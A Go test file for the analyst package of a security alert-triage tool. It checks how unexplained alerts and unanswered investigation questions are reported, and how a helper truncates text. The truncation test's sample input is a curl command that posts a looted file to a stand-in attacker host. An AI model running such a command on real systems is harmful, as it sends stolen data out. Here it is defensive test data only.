package analyst

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-dev/tocsin/api/v1alpha1"
)

func TestUnspoken(t *testing.T) {
	alerts := func(severities ...v1alpha1.Severity) []v1alpha1.Alert {
		var all []v1alpha1.Alert
		for i, s := range severities {
			all = append(all, alert(string(rune('a'+i)), i, s, "x", nil))
		}
		return all
	}
	counts := v1alpha1.Evidence{ID: "E1", Alert: "a", Weight: 30}
	const low, high = v1alpha1.SeverityLow, v1alpha1.SeverityHigh
	tests := map[string]struct {
		alerts   []v1alpha1.Alert
		evidence []v1alpha1.Evidence
		want     []string
	}{
		"nothing":                     {},
		"of one alert all is":         {alerts(high), []v1alpha1.Evidence{{ID: "E1", Weight: 30}}, nil},
		"the worst is spoken of":      {alerts(high, low), []v1alpha1.Evidence{counts}, nil},
		"a lesser one need not be":    {alerts(high, low), []v1alpha1.Evidence{counts, {ID: "E2", Alert: "b"}}, nil},
		"the worst is not":            {alerts(low, high), []v1alpha1.Evidence{counts}, []string{"No evidence counts apart for alert b (High): nothing was found that is not said of another alert."}},
		"it is counted with another":  {alerts(low, high), []v1alpha1.Evidence{counts, {ID: "E2", Alert: "b", Note: countedOnce + "E1"}, {ID: "E3", Alert: "b", Note: countedOnce + "E1"}}, []string{"No evidence counts apart for alert b (High): what was found is counted once with E1."}},
		"what there is has no weight": {alerts(low, high), []v1alpha1.Evidence{counts, {ID: "E2", Alert: "b", Note: "does not explain alert a"}}, []string{"No evidence counts apart for alert b (High): what was found, E2, has no weight."}},
		"many at once": {alerts(high, high, high, high, high, high), []v1alpha1.Evidence{counts, {ID: "E2", Alert: "c", Note: countedOnce + "E1"}}, []string{
			"No evidence counts apart for alert b, alert d, alert e and alert f (High): nothing was found that is not said of another alert.",
			"No evidence counts apart for alert c (High): what was found is counted once with E1.",
		}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, unspoken(tt.alerts, tt.evidence)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestNotKnown(t *testing.T) {
	asked := []v1alpha1.QuestionStatus{{ID: "q"}, {ID: "r"}}
	did := func(code string) []v1alpha1.Alert {
		a := alert("a", 0, v1alpha1.SeverityLow, "x", nil)
		a.Spec.Attributes = map[string]string{"user": "eve", "code": code}
		return []v1alpha1.Alert{a}
	}
	some, none := &v1alpha1.BlastRadius{Secrets: 1}, &v1alpha1.BlastRadius{}
	tests := map[string]struct {
		dossier Dossier
		want    []string
	}{
		"nothing was asked": {Dossier{}, []string{"Everything except the alerts: no question was asked."}},
		"all is known":      {Dossier{Questions: asked, Stakes: Stakes{Criticality: "low", Reach: some}}, []string{"Nothing that was asked: all 2 questions were answered."}},
		"one failed":        {Dossier{Questions: asked, Unanswered: []string{"Is it? no"}, Stakes: Stakes{Criticality: "low", Reach: some}}, []string{"Is it? no."}},
		"neither reach nor criticality": {Dossier{Questions: asked}, []string{
			"All 2 questions were answered, and leave this open.", "How far the identities reach: no question told.",
			"How critical the targets are: none states it by its label soc.tocsin.dev/criticality.",
		}},
		"no rights are seen, and it acted": {Dossier{Questions: asked, Alerts: did("201"), Stakes: Stakes{Criticality: "low", Reach: none, ReachFrom: "p"}}, []string{
			"All 2 questions were answered, and leave this open.", "How far the identities reach: RBAC as read opens them no Secret, change, command or node, and yet they acted; groups of people and other authorizers are not read (question p).",
		}},
		"no rights are seen, and it was refused": {Dossier{Questions: asked, Alerts: did("403"), Stakes: Stakes{Criticality: "low", Reach: none}}, []string{"Nothing that was asked: all 2 questions were answered."}},
		"memories, old and young": {Dossier{Questions: asked, Stakes: Stakes{Criticality: "low", Reach: some}, Memories: []Memory{{"a", 1}, {"b", 168}, {"c", 100}}}, []string{
			"All 2 questions were answered, and leave this open.", "What is usual: to a young memory much is new (a 1 hour, c 100 hours).",
		}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, notKnown(tt.dossier)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	if m, says := MemoryOf("q", map[string]any{"baselineHours": 3.9}); !says || m != (Memory{"q", 3}) {
		t.Errorf("%v, %v", m, says)
	}
	if _, says := MemoryOf("q", nil); says {
		t.Error("no answer says how far back it goes")
	}
}

func TestEnds(t *testing.T) {
	for limit, want := range map[int]string{
		60: "curl -d @/tmp/loot https://evil.example/x",
		24: "curl -d @/tmp/l…xample/x",
		5:  "curl…",
		0:  "",
	} {
		if got := ends("curl -d @/tmp/loot\n https://evil.example/x", limit); got != want {
			t.Errorf("%d characters: %q, want %q", limit, got, want)
		}
	}
}
